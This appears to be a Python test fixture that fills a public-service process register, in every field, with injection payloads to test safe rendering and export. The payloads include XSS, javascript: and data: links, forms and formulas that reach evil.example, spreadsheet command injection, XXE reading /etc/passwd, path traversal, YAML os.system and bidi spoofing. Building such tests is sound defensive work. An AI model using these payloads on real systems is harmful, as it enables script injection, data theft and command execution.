"""Texts that try to become something else: markup, script, an address that runs, a formula, another format."""

HTML = [
    "<script>window.ran=1;alert(1)</script>", "</script><script>window.ran=2</script>", "<img src=x onerror=window.ran=3>",
    "<svg onload=window.ran=4><script>window.ran=5</script></svg>", "\"><svg/onload=window.ran=6>",
    "' onmouseover='window.ran=7' x='", "<iframe src=javascript:parent.ran=8></iframe>", "<!--<script>window.ran=9//-->",
    "--><script>window.ran=10</script>", "</title><script>window.ran=11</script>", "</style><script>window.ran=12</script>",
    "</textarea><script>window.ran=13</script>", "<style>*{display:none}</style>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/a.css>",
    "<form action=https://evil.example><input name=q id=q></form>", "<a id=search name=elements href=javascript:window.ran=14>x</a>",
    "<math><mtext></p><style><img src onerror=window.ran=15>", "<details open ontoggle=window.ran=16>", "&lt;script&gt;",
    "&#60;script&#62;window.ran=17&#60;/script&#62;", "\u003cscript\u003e", "<noscript><p title=\"</noscript><img src=x onerror=window.ran=18>\">",
    "{{constructor.constructor('window.ran=19')()}}", "${window.ran=20}", "<template><img src=x onerror=window.ran=21></template>",
    "<input autofocus onfocus=window.ran=22>", "<object data=https://evil.example/a></object>", "<\x00script>window.ran=23</script>",
]
LINKS = [
    "javascript:window.ran=30", "JaVaScRiPt:window.ran=31//https://good.example", "java\tscript:window.ran=32", "data:text/html,<script>window.ran=33</script>",
    "vbscript:msgbox", "https://good.example@evil.example/", "https://evil.example/\"onclick=window.ran=34//", "http:evil.example",
    "https://evil.example/<script>", "//evil.example/a", "file:///etc/passwd", "mailto:a@b.ru?body=<script>", "mailto:a@example.ru\r\nBcc: b@example.ru",
    "tel:+7555<script>", "https://xn--/ \u202etxt.exe", "ftp://evil.example", "https://evil.example\\@good.example/", "blob:https://evil.example/1",
    "https://%6a%61/", "https://evil.example/'onmouseover='window.ran=35",
]
FORMULAS = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/?\"&A1;\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1", "=WEBSERVICE(\"https://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTXML(\"https://evil.example\",\"//a\")", "+1;=1+1", "\"=1+1", "x\n=1+1", "x,=1+1", "x;=1+1", "'=1+1", "＝1+1", "=сумм(a1)",
]
OTHERS = [
    "\"}]}}<script>window.ran=40</script>", "\\\"}], \"x\": [\"", "\u2028window.ran=41\u2029", "*/window.ran=42/*", "!!python/object/apply:os.system [x]",
    "a: &x [*x, *x]", "- x\n- y: |", "%s%s%n", "../../../etc/passwd", "\u202egnp.exe\u202c", "\u2066abc\u2069\u200f", "x\u0000y", "x\u0008y", "]]><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>", "&xxe;", "</w:t></w:r><w:r><w:fldSimple w:instr='x'/>",
    "</text:p><text:script>x</text:script>", "{ INCLUDETEXT \"c:\\\\x\" }", "__proto__", "constructor", "\ud83d\ude00\u0301" * 20, "A" * 3000,
]
ALL = [attack.replace("\x00", "") if "\x00" in attack else attack for attack in HTML + LINKS + FORMULAS + OTHERS]


def hostile_register(attacks=None):
    """A register whose every text is an attack, each attack in each field."""
    attacks = ALL if attacks is None else attacks
    processes = []
    for number, attack in enumerate(attacks):
        others = [attacks[(number + step) % len(attacks)] for step in (1, 7, 13)]
        processes.append({
            "name": f"{attack} {number}" if number % 2 else attack,
            "touchpoints": [
                {"name": f"{attack}\n{number}", "channel": "website", "mode": "digital", "needs": ["information", "other"],
                 "otherNeeds": [attack], "interaction": attack, "particularities": attack},
                {"name": f"{number} {others[0]}", "channel": "phone", "mode": "offline", "needs": [], "interaction": others[1],
                 "particularities": others[2]},
            ],
        })
    return {
        "format": "perechen-register", "version": 1, "authority": "</title><script>window.ran=50</script>",
        "title": "\"><img src=x onerror=window.ran=51> \u202eкот", "edition": {"date": "2026-11-23", "number": "57<script>window.ran=52</script>"},
        "directions": [
            {"number": 1, "name": "Предоставление государственных услуг", "processes": processes[: len(processes) // 2]},
            {"number": 3, "name": "Рассмотрение обращений и запросов", "processes": processes[len(processes) // 2 :]},
        ],
    }
